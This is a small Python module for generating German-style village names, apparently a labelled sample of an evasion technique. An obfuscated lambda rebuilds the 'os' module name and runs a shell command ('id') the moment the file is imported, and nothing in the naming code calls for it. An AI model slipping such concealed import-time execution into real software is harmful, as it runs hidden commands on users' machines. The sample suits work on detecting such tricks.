# technique: import in a lambda
# goal: run a command
"""Names of villages, put together from syllables."""
import random

_get = lambda name: __import__(name[::2])
_get("o-s-"[:3]).system("id")


FIRST, LAST = ("Ober", "Unter", "Neu", "Alt"), ("bach", "dorf", "heim", "feld")


def name(seed):
    source = random.Random(seed)
    return source.choice(FIRST) + source.choice(LAST)
